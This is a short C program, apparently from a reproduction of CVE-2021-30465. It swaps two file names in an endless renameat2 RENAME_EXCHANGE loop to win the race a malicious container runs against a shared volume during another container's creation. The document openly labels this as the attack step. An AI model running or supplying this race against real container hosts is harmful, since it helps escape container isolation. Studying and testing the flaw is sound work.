// Exchanges two names as fast as it can, until it is killed: what a container does to a volume that it shares with
// one that is just being created (CVE-2021-30465).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: swap ONE OTHER\n");
        return 2;
    }

    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
